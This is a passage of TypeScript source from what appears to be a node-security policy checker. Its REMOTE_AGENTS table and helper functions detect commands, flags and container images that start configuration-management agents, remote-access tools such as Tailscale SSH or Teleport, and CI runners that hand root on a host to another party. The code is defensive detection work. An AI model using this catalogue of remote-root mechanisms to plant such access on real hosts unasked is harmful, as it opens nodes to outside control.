    const code = INTERPRETER_CODE_OPTIONS[name];
    for (let i = 1; i < words.length; i++) {
        const read = programOptions(words.slice(0, i + 1));
        if (read === undefined) {
            if (words[i] === "--" || words[i].startsWith("-")) continue;
            return words.slice(i);
        }
        if (read.positional.length === 0) continue;
        return code !== undefined && read.values.some(([o]) => code.test(o)) ? undefined : words.slice(i);
    }
    return undefined;
}
/**
 * A REMOTE_AGENTS agent a container engine's command (docker, podman, nerdctl, ctr: containers.ts containerCommand)
 * starts in a container no pod the pack admits could be (nodeReach: privileged, host namespaces, node paths;
 * onHostNetwork; or options the pack cannot read): by its image (an entry's `images`: the repository without registry
 * and tag) or by the container's command (remoteAgent, the container's own files unread). The same agent in a
 * pod-like container runs its jobs as a pod would (podSpec.ts judges it).
 */
function containedAgent(
    engine: string,
    operands: readonly string[],
    cwd: string | undefined,
): { who: string; reach: string } | undefined {
    if (!/^(docker|podman|nerdctl|ctr)$/.test(engine)) return undefined;
    const run = containerCommand(engine, operands, new Map(), cwd);
    if (!run) return undefined;
    const reach = run.pod
        ? (nodeReach(run.pod) ?? onHostNetwork(run.pod))
        : `an option the pack cannot read: ${run.unreadable ?? "?"}`;
    if (reach === undefined) return undefined;
    const repository = (run.image ?? "")
        .replace(/[@].*$/, "")
        .replace(/:[^/]*$/, "")
        .replace(/^(docker\.io\/)?library\//, "")
        .replace(/^[^/]*[.:][^/]*\/|^localhost\//, "");
    const who =
        REMOTE_AGENTS.find(a => a.images?.test(repository))?.who ??
        (run.command.length > 0 ? remoteAgent(run.command, "/", undefined, NO_VIEW) : undefined);
    return who === undefined ? undefined : { who, reach };
}
/**
 * A shell's script and its operands (`bash -x /opt/buildAgent/bin/agent.sh start`), or undefined when it runs none
 * (-c's string, -s or no operand: standard input). bash(1): -o/+o and -O/+O take an option name, --rcfile/--init-file a
 * file; `--` ends the options.
 */
function shellScriptWords(words: readonly string[]): readonly string[] | undefined {
    let i = 1;
    for (; i < words.length; i++) {
        const w = words[i];
        if (w === "--" || w === "-") {
            i++;
            break;
        }
        if (!/^[-+]/.test(w)) break;
        if (/^-[A-Za-z]*[cs][A-Za-z]*$/.test(w)) return undefined;
        if (/^[-+][oO]$|^--(rcfile|init-file)$/.test(w)) i++;
    }
    return i < words.length ? words.slice(i) : undefined;
}

/**
 * Agents that hand the node to another party who then runs commands on it as root (round 60: the class of a
 * remote-access or configuration-management agent, whatever its name; round 63: a CI or job runner running others'
 * jobs on the host), by program and the operands that start one (`read` a file's text as the program finds it: null
 * when unknown, undefined when user data did not write it); `who` the party. The cloud-config modules of the same
 * agents are REMOTE_MANAGEMENT.
 */
const REMOTE_AGENTS: {
    /** The program's name, matched as given and as downloadedName (without a release's version, OS and arch). */
    names: RegExp;
    /** Its container images' repositories (without registry and tag), which start it (containedAgent). */
    images?: RegExp;
    /** `at.program` is the path the command runs (against its working directory); `fileText`, `view` as readConfig's. */
    hands: (
        operands: readonly string[],
        read: (path: string) => string | null | undefined,
        at: { program: string; fileText?: (path: string) => string | undefined; view: ScriptView },
    ) => boolean;
    who: string;
}[] = [
    // ansible-pull(1): "pulls playbooks from a VCS repo and executes them for the local host".
    { names: /^ansible-pull$/, hands: () => true, who: "ansible-pull's repository" },
    // A Puppet, Chef or Salt agent talking to its server; chef-client -z and salt-call --local read local content.
    // Puppet's subcommand is its first word that is no option, and its options (Ruby OptionParser) come anywhere.
    {
        names: /^puppet$/,
        hands: o => {
            const words = o.filter(w => !w.startsWith("-"));
            return words[0] === "agent" || (words[0] === "config" && words.includes("server"));
        },
        who: "the Puppet server",
    },
    // `puppet resource service puppet ensure=running` (Puppet docs, "Run Puppet agent as a service") starts the agent;
    // Puppet "Resource Type: service": ensure "running (also called true)", "stopped (also called false)"; enable=true
    // starts it at boot. Any other value (a variable) fails closed. The type name is read case-insensitively
    // (Puppet::Type.type downcases it: `Service` is service), an option anywhere (`--debug`, `--param NAME`).
    {
        names: /^puppet$/,
        hands: o => {
            const words = o.filter(w => !w.startsWith("-"));
            const type = words.findIndex((w, i) => i > 0 && /^service$/i.test(w));
            return (
                words[0] === "resource" &&
                type > 0 &&
                remoteAgentUnit(words[type + 1] ?? "") &&
                words.some(
                    w => /^(ensure|enable)=/.test(w) && !puppetServiceOff(w.split("=")[0], w.slice(w.indexOf("=") + 1)),
                )
            );
        },
        who: "the agent `puppet resource service` starts",
    },
    // `puppet apply` runs a manifest (-e/--execute code, or the manifest file): the same service resource in Puppet
    // code starts the agent (Puppet docs, "Run Puppet agent as a service": `service { 'puppet': ensure => running,
    // enable => true }`); a manifest user data changed in a way the pack cannot compute fails closed, one it did not
    // write is the image's own (local content, as chef-client -z's cookbooks).
    {
        names: /^puppet$/,
        hands: (o, read) => {
            const words = o.filter((w, i) => !w.startsWith("-") && !/^(-e|--execute)$/.test(o[i - 1] ?? ""));
            if (words[0] !== "apply") return false;
            const code = o.flatMap((w, i) =>
                /^(-e|--execute)$/.test(o[i - 1] ?? "") ? [w] : /^--execute=/.test(w) ? [w.slice(10)] : [],
            );
            const texts = code.length > 0 ? code : words[1] === undefined ? [] : [read(words[1])];
            return texts.some(t => t === null || (typeof t === "string" && puppetCodeStartsAgent(t)));
        },
        who: "the Puppet agent `puppet apply` starts (its Puppet server)",
    },
    // Cinc Client (cinc.sh) is the community build of Chef Infra Client, the same CLI.
    {
        names: /^(chef-client|cinc-client)$/,
        hands: o => !o.some(w => /^(-z|--local-mode|-v|--version|-h|--help)$/.test(w)) || remoteRecipes(o, false),
        who: "the Chef server",
    },
    // Chef docs, "chef-solo" ("-r RECIPE_URL, --recipe-url RECIPE_URL": "The URL location from which a remote cookbook
    // tar.gz is to be downloaded"; chef-client's --recipe-url in local mode alike): whoever serves the archive runs its
    // recipes as root, as ansible-pull's repository does. A local archive is the image's or user data's own.
    {
        names: /^(chef-solo|cinc-solo)$/,
        hands: o => remoteRecipes(o, true),
        who: "whoever serves chef-solo's remote cookbooks (--recipe-url)",
    },
    // Puppet Enterprise's PXP agent (orchestrator tasks as root), Choria's server (MCollective's successor: shell and
    // package agents for the broker's clients) and the RPort client (the server runs commands and opens tunnels to
    // local ports).
    {
        names: /^(pxp-agent|choria-server|rport)$/,
        hands: o => !o.some(w => /^(-h|--help|-v|--version|version)$/.test(w)),
        who: "its server's operators",
    },
    { names: /^salt-call$/, hands: o => !o.includes("--local"), who: "the Salt master" },
    { names: /^salt-minion$/, hands: () => true, who: "the Salt master" },
    // CFEngine docs, "cf-agent": "-B, --bootstrap: Bootstrap CFEngine to the given policy server IP, hostname or :avahi":
    // the host then pulls the hub's policy and runs its promises as root on every run.
    // Its options read by its getopt_long grammar (rootReads programOptions: `-Bhub` is `-B hub`, `--boot=hub` is
    // --bootstrap); an option word it cannot read that may hold -B or a --b prefix fails closed.
    {
        names: /^cf-agent$/,
        hands: o => {
            const read = programOptions(["cf-agent", ...o]);
            return (
                read === undefined ||
                read.values.some(([k]) => /^(-B|--bootstrap)$/.test(k)) ||
                read.unknown.some(w => /^-[^-]*B|^--b/.test(w))
            );
        },
        who: "the CFEngine policy hub",
    },
    // An SSM hybrid activation: another account's Run Command and Session Manager as root (SSM user guide, "Install SSM
    // Agent on hybrid Linux nodes"); the agent registered with the node's own role is the account's own access.
    // AWS's registration tool for the same (`ssm-setup-cli -register -activation-code ... -activation-id ...`).
    {
        // Both read their flags with Go's flag package (`-register=true` is -register: goBoolFlag).
        names: /^(amazon-ssm-agent|ssm-setup-cli)$/,
        hands: o => goBoolFlag(o, "register"),
        who: "the account of the SSM hybrid activation",
    },
    // Tailscale SSH (Tailscale docs, "Tailscale SSH": `tailscale up --ssh`; the tailnet policy file decides who logs
    // in as which user, root included).
    {
        names: /^tailscale$/,
        hands: o => goBoolFlag(o, "ssh"),
        who: "the tailnet's SSH policy (Tailscale SSH)",
    },
    // NetBird CLI docs, `netbird up`: "--allow-server-ssh  Allow SSH server on peer"; the management server's access
    // policies decide which peers log in.
    {
        names: /^netbird$/,
        hands: o => goBoolFlag(o, "allow-server-ssh"),
        who: "the NetBird management server's access policy (NetBird SSH)",
    },
    // Teleport docs, "teleport start": "--roles Comma-separated list of roles to start with [proxy,node,auth]"; the node
    // role runs the SSH Service, whose logins (root included) the cluster's roles grant; without --roles its
    // configuration decides (ssh_service is enabled by default), unread.
    {
        names: /^teleport$/,
        hands: o =>
            o[0] === "start" &&
            !o.some((w, i) => {
                const roles = /^--roles=(.*)$/.exec(w)?.[1] ?? (o[i - 1] === "--roles" ? w : undefined);
                return roles !== undefined && !roles.split(",").includes("node");
            }) &&
            !o.some(w => /^(-h|--help)$/.test(w)),
        who: "the Teleport cluster's roles (its SSH Service)",
    },
    // VS Code docs, "Developing with Remote Tunnels": `code tunnel` (and `code tunnel service install`) connects the
    // machine to the dev tunnels relay, and the signed-in GitHub or Microsoft account opens terminals and edits files
    // there from vscode.dev; `prune|kill|status|rename|unregister|user` manage or sign out only.
    {
        names: /^code(-insiders)?$/,
        hands: o =>
            o[0] === "tunnel" && !/^(prune|kill|status|rename|unregister|user|help|-h|--help)$/.test(o[1] ?? ""),
        who: "the account signed in to VS Code Remote Tunnels",
    },
    // CI and job runners run the jobs their server hands them on the host, as the runner's user (root here), so
    // whoever can push a pipeline or submit a job runs commands on the node. An executor kept in containers is its
    // configuration's (config.toml, agent configuration: privileged, host volumes), unread: fail closed.
    // GitLab Runner docs, "Shell executor" ("the scripts are run as the user that owns the GitLab Runner process")
    // and "GitLab Runner commands" (`register`, `run`, `run-single`, `install`, `start`).
    // (Its binary is downloaded as gitlab-runner-linux-amd64 ("Install GitLab Runner manually on GNU/Linux"), read by
    // downloadedName.)
    {
        names: /^gitlab-(runner|ci-multi-runner)$/,
        images: /^gitlab\/gitlab-runner$|^gitlab-org\/gitlab-runner(\/gitlab-runner)?$/,
        hands: o => o.some(w => /^(register|run|run-single|install|start|restart)$/.test(w)) && !ciHelp(o),
        who: "the GitLab projects whose pipelines its runner takes (GitLab Runner)",
    },
    // Buildkite docs, "buildkite-agent start": the agent runs each job's commands on the host as its own user.
    {
        names: /^buildkite-agent$/,
        images: /^buildkite\/agent$/,
        hands: o => o.includes("start") && !ciHelp(o),
        who: "the Buildkite organisation's pipelines (buildkite-agent)",
    },
    // Nomad docs, "Commands: agent" (`-client` "Enable client mode for the agent", `-dev` server and client, a
    // `-config` file's client block, unread) and the raw_exec/exec drivers (tasks as the agent's user, root). Go flags.
    {
        names: /^nomad$/,
        hands: o =>
            o.find(w => !w.startsWith("-")) === "agent" &&
            (goBoolFlag(o, "client") ||
                goBoolFlag(o, "dev") ||
                goBoolFlag(o, "dev-connect") ||
                o.some(w => /^--?config(=|$)/.test(w))) &&
            !ciHelp(o),
        who: "whoever submits jobs to the Nomad cluster (its client runs them)",
    },
    // GitHub docs, "Adding self-hosted runners" (`./config.sh --url ... --token ...`, then `./run.sh` or `./svc.sh
    // install` and `start`, the Runner.Listener process) and Azure Pipelines docs, "Self-hosted Linux agents" (the same
    // config.sh --url / svc.sh / Agent.Listener): workflow jobs run on the host.
    {
        names: /^(config\.sh|svc\.sh|Runner\.Listener|Agent\.Listener)$/,
        hands: o => o.some(w => /^--url(=|$)/.test(w)) || o.some(w => /^(install|start|run|configure)$/.test(w)),
        who: "the repositories whose workflows its self-hosted runner takes (GitHub Actions, Azure Pipelines)",
    },
    // GitHub docs, "Using just-in-time runners" (`./run.sh --jitconfig ${encoded_jit_config}`, no config.sh): the
    // runner's run.sh with that option (also from ACTIONS_RUNNER_INPUT_JITCONFIG: rootReads environmentOptions), or in a
    // runner's directory (actions-runner, Azure Pipelines' vsts-agent / azagent), or beside the registration config.sh
    // writes and Runner.Listener reads (`.runner`, `.credentials`; Azure Pipelines' `.agent`) when user data wrote one
    // (a script it ran that may have written anything does not count: round 65's own run.sh). A team's own run.sh
    // elsewhere is its own.
    {
        names: /^run\.sh$/,
        // Runner images (myoung34/docker-github-actions-runner: REPO_URL and RUNNER_TOKEN, then config.sh and run.sh;
        // actions/runner's own image; the actions-runner-controller images).
        images: /(^|\/)(github-runner|github-actions-runner|actions-runner(-dind)?|actions-runner-dind-rootless)$/,
        hands: (o, read, { program }) =>
            o.some(w => /^--jitconfig(=|$)/.test(w)) ||
            /actions-runner|vsts-agent|azagent/i.test(program) ||
            [".runner", ".credentials", ".agent"].some(
                f => typeof read(posix.join(posix.dirname(program), f)) === "string",
            ),
        who: "the repositories whose workflows its self-hosted runner takes (GitHub Actions, Azure Pipelines)",
    },
    // Jenkins docs, "Using Jenkins agents" (`java -jar agent.jar -url ... -secret ... -name ...`, the remoting
    // launcher; the Swarm plugin's swarm-client.jar alike): the controller's builds run on the host. The jar is whatever
    // file the operator saved, so the agent is also known by its own options (JENKINS_AGENT_OPTIONS; -url with
    // JENKINS_URL_OPTIONS), never by -url and -name alone, which any program may take; GoCD's
    // agent-bootstrapper.jar, TeamCity's agent main classes and the Bitbucket runner's runner.jar (bitbucketRunner) alike.
    // java(1) "java Command-Line Argument Files": the launcher expands `@file` words in place, up to the main class or
    // `-jar FILE` (javaArgumentFile, expandOptionFiles); one the pack cannot read may hold any of these, and fails closed.
    {
        names: /^java$/,
        hands: (operands, _read, { fileText, view }) => {
            const { words: o, unread } = expandOptionFiles(
                operands,
                (w, before) => (javaOptionsEnd(before) < 0 ? javaArgumentFile(w, before) : undefined),
                true,
                fileText,
                view,
            );
            return (
                unread.length > 0 ||
                o.some(
                    (w, i) =>
                        (o[i - 1] === "-jar" &&
                            /^(jenkins[-._])?(agent|slave|remoting|swarm-client|swarm)([-._][\w.-]*)?\.jar$/.test(
                                posix.basename(w),
                            )) ||
                        /^(hudson\.remoting\.(jnlp\.Main|Launcher)|hudson\.plugins\.swarm\.Client|jetbrains\.buildServer\.agent\.\w+)$/.test(
                            w,
                        ) ||
                        // Atlassian Bamboo docs, "Bamboo remote agent installation guide": `java -jar
                        // atlassian-bamboo-agent-installer-X.jar http://BAMBOO/agentServer/` installs and runs the
                        // remote agent; the server's build and deployment tasks (Script tasks) run on the host as
                        // its user. The jar by its name, or any jar given the server's agentServer URL.
                        (o[i - 1] === "-jar" && /^atlassian-bamboo-agent/.test(posix.basename(w))) ||
                        /^[a-z]+:\/\/[^\s]*\/agentServer\/?$/i.test(w),
                ) ||
                o.some(w => JENKINS_AGENT_OPTIONS.test(w)) ||
                (o.includes("-url") && o.some(w => JENKINS_URL_OPTIONS.test(w))) ||
                bitbucketRunner(o)
            );
        },
        who: "the CI server whose builds its java agent takes (a Jenkins or Bamboo agent, or one a java argument file may start)",
    },
    // The Jenkins inbound agent's launcher script (jenkinsci/docker-agent `jenkins-agent`, formerly `jenkins-slave`:
    // JENKINS_URL, JENKINS_SECRET, JENKINS_AGENT_NAME from the environment or as its arguments, then exec java -cp
    // agent.jar hudson.remoting.jnlp.Main).
    {
        names: /^jenkins-(agent|slave)$/,
        images: /^jenkins\/(inbound-agent|agent|jnlp-slave|ssh-agent|ssh-slave)$/,
        hands: o => !ciHelp(o) && !o.includes("-help"),
        who: "the Jenkins controller whose builds its inbound agent takes (jenkins-agent)",
    },
    // Atlassian Bamboo docs, "Bamboo remote agent installation guide" / "Running Bamboo agent as a service" (the Java
    // Service Wrapper's `<agent home>/bin/bamboo-agent.sh start|console|install`): the installed remote agent, whose
    // server runs build tasks on the host.
    {
        names: /^bamboo-agent\.sh$/,
        hands: o =>
            /^(start|console|restart|condrestart|install|installstart)$/.test(o.find(w => !w.startsWith("-")) ?? ""),
        who: "the Bamboo server's builds (a Bamboo remote agent)",
    },
    // Azure docs, "azcmagent connect" (the Azure Connected Machine agent, Azure Arc-enabled servers): connecting puts
    // the machine under the subscription's Run Command and VM extensions (Custom Script), which run as root on it;
    // `show`, `check`, `version`, `logs`, `disconnect` do not.
    {
        names: /^azcmagent$/,
        hands: o => o.find(w => !w.startsWith("-")) === "connect" && !ciHelp(o),
        who: "whoever holds Run Command or extension rights on the Azure Arc machine (azcmagent connect)",
    },
    // Ubuntu Landscape docs, "Register machines" / "Remote script execution" and landscape-config(1): registering the
    // client hands package management (maintainer scripts run as root) and, with --script-users, scripts to the
    // Landscape server's administrators, as cloud-config's `landscape` module does (REMOTE_MANAGEMENT).
    {
        names: /^landscape-config$/,
        hands: o => !ciHelp(o) && !o.some(w => /^--(disable|is-registered)$/.test(w)),
        who: "the Landscape server's administrators (Landscape client)",
    },
    // K3s docs, "Quick-Start" / "k3s agent" (`k3s agent --server URL --token TOKEN`) and RKE2 docs, "Quick Start: Linux
    // Agent (Worker) Node Installation" (`rke2 agent`, server: in /etc/rancher/rke2/config.yaml): the node joins another
    // cluster, whose API users schedule privileged and hostPath pods onto it; `server --server URL` joins one as a
    // server. The --server URL may come from its configuration file, unread: any agent fails closed.
    {
        names: /^(k3s|rke2)$/,
        hands: o => {
            const command = o.find(w => !w.startsWith("-"));
            return (
                !ciHelp(o) &&
                (command === "agent" || (command === "server" && o.some(w => /^(-s|--server)(=|$)/.test(w))))
            );
        },
        who: "the Kubernetes cluster the node joins as a k3s or RKE2 agent (its API users schedule pods onto it)",
    },
    // Consul docs, "Security models: Consul" ("enable_script_checks ... If the Consul agent HTTP API is exposed ...
    // script checks present a remote code execution threat") and the agent's configuration reference
    // (enable_script_checks; `disable_remote_exec` false lets `consul exec` run commands): whoever may register a check
    // over its API runs commands as the agent's user. Read from its Go flags, -hcl and the configuration files
    // (-config-file, -config-dir) user data wrote; one changed in a way the pack cannot compute fails closed.
    // -enable-local-script-checks is not one (the same docs: "only enable them when they are defined in the local
    // configuration files. Script checks defined in HTTP API registrations will still not be allowed").
    {
        names: /^consul$/,
        hands: (o, read, { view }) => {
            if (o.find(w => !w.startsWith("-")) !== "agent" || ciHelp(o)) return false;
            const remote = (text: string) =>
                /\benable_script_checks\W+(=\s*)?("?)true\b/i.test(text) ||
                /\bdisable_remote_exec\W+(=\s*)?("?)false\b/i.test(text);
            const values = (flag: string) =>
                o.flatMap((w, i) =>
                    new RegExp(`^--?${flag}$`).test(o[i - 1] ?? "")
                        ? [w]
                        : new RegExp(`^--?${flag}=`).test(w)
                          ? [w.slice(w.indexOf("=") + 1)]
                          : [],
                );
            const dirs = values("config-dir");
            const files = [
                ...values("config-file"),
                ...[...(view.written?.() ?? [])].filter(f => dirs.some(d => f.startsWith(`${d.replace(/\/$/, "")}/`))),
            ];
            return (
                goBoolFlag(o, "enable-script-checks") ||
                values("hcl").some(remote) ||
                files.some(f => {
                    const text = read(f);
                    return text === null || (typeof text === "string" && remote(text));
                })
            );
        },
        who: "whoever may register a Consul check over the agent's API (script checks run as its user)",
    },
    // JetBrains TeamCity docs, "Configuring Build Agent Startup Properties" (`<Agent Home>/bin/agent.sh start|run`, the
    // agent reading <Agent Home>/conf/buildAgent.properties `serverUrl=`): the server's build steps run on the host. A
    // script of that name is TeamCity's when its home's conf/buildAgent.properties is user data's (or unknown) or its
    // path names the agent.
    {
        names: /^agent\.sh$/,
        hands: (o, read, { program }) =>
            /^(start|run)$/.test(o[0] ?? "") &&
            (/buildagent|teamcity/i.test(program) ||
                read(posix.join(posix.dirname(posix.dirname(program)), "conf/buildAgent.properties")) !== undefined),
        who: "the TeamCity server's builds (a TeamCity build agent)",
    },
    // GoCD docs, "Installing GoCD agent on Linux" (the go-agent package's `go-agent start`, the Tanuki wrapper's
    // console/start/install commands; GO_SERVER_URL): the server's pipeline jobs (exec tasks) run on the host.
    {
        names: /^go-agent$/,
        hands: o =>
            /^(console|start|restart|condrestart|install|installstart)$/.test(o.find(w => !w.startsWith("-")) ?? ""),
        who: "the GoCD server's pipelines (a GoCD agent)",
    },
    // HashiCorp docs, "HCP Terraform agents: Install and run agents" (the tfc-agent binary, with tfc-agent-core, polls
    // HCP Terraform with TFC_AGENT_TOKEN and runs the pool's workspaces' plans and applies locally).
    {
        names: /^tfc-agent(-core)?$/,
        images: /^hashicorp\/tfc-agent$/,
        hands: o => !ciHelp(o),
        who: "the HCP Terraform workspaces whose runs its agent takes (tfc-agent)",
    },
    // Octopus docs, "Tentacle command line" (register-with / register-worker / poll-server register it with a server,
    // `service --install --start` or `agent`/`run` run it; the service "Defaults to 'root' for Systemd services"):
    // the server's deployment scripts run on the host.
    {
        names: /^[Tt]entacle$/,
        hands: o => {
            const command = o.find(w => !w.startsWith("-")) ?? "";
            return (
                !ciHelp(o) &&
                (/^(register-with|register-worker|poll-server|agent|run)$/.test(command) ||
                    (command === "service" && o.some(w => /^--(install|start|restart|reconfigure)$/.test(w))))
            );
        },
        who: "the Octopus server's deployments (an Octopus Tentacle)",
    },
    // Atlassian docs, "Set up runners for Linux Shell" (`./start.sh --accountUuid ... --runnerUuid ...
    // --OAuthClientId ... --OAuthClientSecret ... --runtime linux-shell`): pipeline steps run on the host; a Docker
    // runtime's configuration is unread (fail closed).
    {
        names: /^start\.sh$/,
        hands: (o, _read, { program }) => bitbucketRunner(o) || /bitbucket-pipelines-runner/.test(program),
        who: "the Bitbucket workspace's pipelines (a Bitbucket Pipelines runner)",
    },
    // Harness docs, "Install the Harness Shell Script Delegate" (the downloaded harness-delegate directory's start.sh):
    // the Harness manager's deployments and Shell Script steps run on the host as the delegate's user.
    {
        names: /^start\.sh$/,
        hands: (_o, _read, { program }) => /harness-delegate/.test(program),
        who: "the Harness account whose pipelines its delegate runs (a Harness delegate)",
    },
    // CircleCI docs, "Machine runner 3 installation on Linux" (`circleci-runner machine --config
    // /etc/circleci-runner/circleci-runner-config.yaml`, the circleci-runner unit) and the launch agent it replaced.
    {
        names: /^(circleci-runner|circleci-launch-agent)$/,
        // The subcommand is the first word that is neither an option nor the value of the option before it
        // (`--config FILE`; a value of an option the pack does not know counts as one, fail closed); none is
        // `machine`, the launch agent's only mode (`circleci-launch-agent --config FILE`).
        hands: o =>
            !ciHelp(o) &&
            (o.find((w, i) => !w.startsWith("-") && !/^-[^=]+$/.test(o[i - 1] ?? "")) ?? "machine") === "machine",
        who: "the CircleCI organisation's jobs (a CircleCI machine runner)",
    },
    // drone-runner-exec (Drone docs, "Exec Runner": pipelines run "directly on the host machine"), drone-runner-docker
    // (Drone docs, "Docker Runner": trusted repositories' steps mount host volumes or run privileged; DRONE_RPC_HOST,
    // DRONE_RPC_SECRET), the Woodpecker agent (its local backend runs steps on the host), Gitea's act_runner and
    // Forgejo's runner (`daemon`; host labels run jobs on the host).
    {
        names: /^(drone-runner-(exec|docker)|woodpecker-agent|act_runner|forgejo-runner)$/,
        images: /^(drone\/drone-runner-(docker|exec)|woodpeckerci\/woodpecker-agent|gitea\/act_runner|forgejo\/runner)$/,
        hands: o => !ciHelp(o),
        who: "the CI server whose pipelines its runner takes",
    },
    // Concourse docs, "Running a worker node" (`concourse worker` with CONCOURSE_TSA_HOST / --tsa-host; `quickstart`
    // runs web and worker): it registers with the web node and runs every pipeline's tasks, privileged ones with
    // escalated capabilities.
    {
        names: /^concourse$/,
        hands: o => /^(worker|quickstart)$/.test(o.find(w => !w.startsWith("-")) ?? "") && !ciHelp(o),
        who: "the Concourse teams whose pipelines its worker runs",
    },
    // buildbot-worker(1) (`create-worker PATH MASTER USERNAME PASSWORD`, `start|restart [PATH]`; buildslave before
    // it): the master's build steps run on the host as the worker's user.
    {
        names: /^(buildbot-worker|buildslave)$/,
        hands: o =>
            /^(create-worker|create-slave|start|restart)$/.test(o.find(w => !w.startsWith("-")) ?? "") && !ciHelp(o),
        who: "the Buildbot master whose builds its worker runs",
    },
    // The same worker run by twistd(1) ("-y, --python=: read an application from within a Python file"; Buildbot
    // docs, "Buildbot in Docker": `twistd --nodaemon --no_save -y buildbot.tac`, the file create-worker writes, which
    // builds buildbot_worker.bot.Worker): a .tac user data wrote is read; one it did not write is the worker's when
    // named so (buildbot.tac, a buildbot path), and one it changed in a way the pack cannot compute fails closed.
    {
        names: /^twistd3?$/,
        hands: (o, read) =>
            o.some((w, i) => {
                const tac = /^--python=/.test(w)
                    ? w.slice(9)
                    : /^-[A-Za-z]*y$|^--python$/.test(o[i - 1] ?? "")
                      ? w
                      : /^-[A-Za-z]*y./.test(w) && !w.startsWith("--")
                        ? w.slice(w.indexOf("y") + 1)
                        : undefined;
                if (tac === undefined) return false;
                const text = read(tac);
                return text === undefined
                    ? /buildbot|buildslave/i.test(tac)
                    : text === null || /\b(buildbot_worker|buildslave)\b/.test(text);
            }),
        who: "the Buildbot master whose builds its worker runs",
    },
    // semaphoreci/agent README (`agent start`: "the agent will register itself with Semaphore"; --endpoint, --token,
    // --config-file), a binary called `agent`: known by those options or a semaphore path.
    {
        names: /^agent$/,
        hands: (o, _read, { program }) =>
            o.find(w => !w.startsWith("-")) === "start" &&
            (o.some(w => /^--(endpoint|token|config-file)(=|$)/.test(w)) || /semaphore/i.test(program)),
        who: "the Semaphore organisation whose jobs its self-hosted agent runs",
    },
    // Spacelift docs, "Worker pools" / "Docker-based workers" (the spacelift-launcher binary with SPACELIFT_TOKEN and
    // SPACELIFT_POOL_PRIVATE_KEY "should now connect to the Spacelift backend and start handling runs"); travis-ci/worker
    // README (travis-worker runs the hub's jobs; its `local` provider on this host).
    {
        names: /^(spacelift-launcher|travis-worker)$/,
        hands: o => !ciHelp(o) && !o.includes("--echo-config"),
        who: "the CI or infrastructure service whose runs its worker takes (Spacelift, Travis CI)",
    },
    // Receptor docs, "Workceptor" (`work-commands`: "the executable that is invoked when running this work", submitted
    // by any peer with the control service; AWX execution nodes run `ansible-runner worker`): work types on the command
    // line or in its configuration (-c/--config, default /etc/receptor/receptor.conf) the pack cannot read or that
    // define one.
    {
        names: /^receptor$/,
        hands: (o, read) => {
            if (ciHelp(o)) return false;
            if (o.some(w => /^--work-(command|kubernetes|python)(=|$)/.test(w))) return true;
            const config = o.flatMap((w, i) =>
                /^(-c|--config)$/.test(o[i - 1] ?? "") ? [w] : /^--config=/.test(w) ? [w.slice(9)] : [],
            );
            return (config.length > 0 ? config : ["/etc/receptor/receptor.conf"]).some(c => {
                const text = read(c);
                return typeof text !== "string" || /\bwork-?(command|kubernetes|python)s?\b/i.test(text);
            });
        },
        who: "the Receptor mesh (AWX controller) that submits work to its node",
    },
];
/**
 * Options only the Jenkins agent launchers take (remoting's agent.jar `-help`, the Swarm client's README "Available
 * Options"), and those that name one with -url.
 */
const JENKINS_AGENT_OPTIONS =
    /^-(secret|jnlpUrl|jnlpCredentials|webSocket|webSocketHeader|instanceIdentity|internalDir|failIfWorkDirIsMissing|noReconnect|master|passwordFile|passwordEnvVariable|fsroot|labelsFile|disableClientsUniqueId|deleteExistingClients|candidateTag|noRetryAfterConnected|retryBackOffStrategy)$/;
const JENKINS_URL_OPTIONS = /^-(workDir|direct|tunnel|headless|executors|labels|mode|username)$/;
/**
 * Whether Chef runs cookbooks from a URL (`--recipe-url`, chef-solo's -r too): a scheme's URL or a value the pack
 * cannot read.
 */
const remoteRecipes = (o: readonly string[], solo: boolean) =>
    o.some((w, i) => {
        const value = /^--recipe-url=/.test(w)
            ? w.slice(13)
            : o[i - 1] === "--recipe-url" || (solo && o[i - 1] === "-r")
              ? w
              : undefined;
        return value !== undefined && /^[a-z][a-z0-9+.-]*:\/\/|[$`]/i.test(value);
    });
/**
 * A release binary's name without its version, OS and architecture (GitLab's gitlab-runner-linux-amd64, a
 * tfc-agent-1.15.0-linux-amd64) and build flavour (GitLab docs, "FIPS-compliant GitLab Runner":
 * gitlab-runner-linux-amd64-fips; -static, -musl): the program is the same whatever the file is called.
 */
const downloadedName = (name: string) =>
    name.replace(
        /([-_.](v?\d+(\.\d+)+|linux|darwin|freebsd|openbsd|netbsd|amd64|x86_64|x64|arm64|aarch64|armv?\d*[a-z]*|i?[36]86|ppc64le|s390x|riscv64|fips|boringcrypto|static|musl|gnu|unknown))+$/i,
        "",
    );
/** Bitbucket Pipelines runner options (Atlassian docs, "Set up runners for Linux Shell": start.sh and its runner.jar). */
const bitbucketRunner = (o: readonly string[]) =>
    o.some(w => /^--(accountUuid|runnerUuid|repositoryUuid|OAuthClientId|OAuthClientSecret)(=|$)/.test(w));
/** Options and subcommands of a runner that only print (help, version). */
const ciHelp = (o: readonly string[]) => o.some(w => /^(-h|--help|help|-v|--version|version)$/.test(w));
/** Whether a Puppet service attribute keeps the agent off (Puppet "Resource Type: service"); a variable is on. */
const puppetServiceOff = (attribute: string, value: string) => {
    const v = value.replace(/^["']|["']$/g, "");
    return attribute === "ensure" ? /^(stopped|false)$/.test(v) : /^(false|manual|mask)$/.test(v);
};
/**
 * Whether Puppet code starts a REMOTE_AGENT_UNITS agent: a `service` resource (type case-insensitive) titled one of them,
 * or with a title the pack cannot read (a variable), whose ensure or enable is not off (puppetServiceOff); a service
 * named anywhere else in the code (an override, a collector, ensure_resource) fails closed.
 */
function puppetCodeStartsAgent(code: string): boolean {
    const units = new RegExp(`["']?\\b(${REMOTE_AGENT_UNITS.source.replace(/^\^\(|\)\$$/g, "")})\\b`);
    let rest = code;
    for (const m of code.matchAll(/\bservice\s*\{([^{}]*)\}/gi)) {
        rest = rest.replace(m[0], " ");
        for (const body of m[1].split(";")) {
            const colon = body.indexOf(":");
            if (colon < 0) continue;
            const title = body.slice(0, colon);
            if (!units.test(title) && !/\$/.test(title)) continue;
            for (const a of body.slice(colon + 1).matchAll(/\b(ensure|enable)\s*=>\s*([^,;\s}]+)/g))
                if (!puppetServiceOff(a[1], a[2])) return true;
        }
    }
    return /service/i.test(rest) && units.test(rest);
}
/**
 * Whether a unit is one of REMOTE_AGENT_UNITS, or an instance of its template (systemd.unit(5): "foo@bar.service" is
 * an instance of "foo@.service"; Buildkite docs run parallel agents as buildkite-agent@N): the same agent.
 */
const remoteAgentUnit = (unit: string) =>
    REMOTE_AGENT_UNITS.test(unit.replace(/\.service$/, "")) ||
